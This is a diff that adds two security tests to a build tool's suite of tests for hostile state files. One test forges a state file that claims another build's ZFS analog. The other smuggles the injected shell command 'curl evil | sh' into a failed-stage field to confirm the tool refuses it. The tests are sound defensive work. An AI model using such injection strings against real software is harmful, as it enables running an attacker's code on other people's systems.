@@ -238,6 +238,36 @@ describe('hostile: state files', function () {
       );
     });
 
+    it("a kept failure claimed over another build's analog: the rerun rolls nothing back", async () => {
+      // The other build's analog with a snapshot where a rerun would roll back to, and a file written after it.
+      const snap = `${other.state.analog!.dataset}@before-pkgadd`;
+      const marker = join(other.state.analog!.mountpoint, 'root/opt/after-snapshot');
+      await w.zfs.snapshot(snap);
+      await writeFile(marker, 'stays');
+      try {
+        const s = structuredClone(a.state);
+        s.failed = { stage: 'pkgadd', message: 'mirror down', kept: true };
+        s.keepOnFailure = true;
+        s.analog = structuredClone(other.state.analog);
+        s.chroot = structuredClone(other.state.chroot);
+        const path = join(w.dir, `forged-${randomUUID().slice(0, 8)}.json`);
+        await writeState(path, s);
+        assertRefused(await cli(['pkgadd', '--state', path], { env: w.env }), /zone analog .* does not belong to build|names zone analog .* which this build does not own/);
+        assert.equal(await readFile(marker, 'utf8'), 'stays', 'not rolled back');
+        assert.ok(await w.zfs.exists(snap));
+      } finally {
+        await rm(marker, { force: true });
+        await w.zfs.destroyOwned(snap);
+      }
+    });
+
+    it('a failed stage that is a shell command, for the hint to print', async () => {
+      assertRefused(
+        await cleanForged((s) => (s.failed = { stage: 'pkgadd --state x; curl evil | sh #' as 'pkgadd', message: 'x', kept: true })),
+        /is not a buildimage state file \(failed.stage: /,
+      );
+    });
+
     it('a state file that is a symlink', async () => {
       const link = join(w.dir, `link-${randomUUID().slice(0, 8)}.json`);
       await symlink(a.statePath, link);
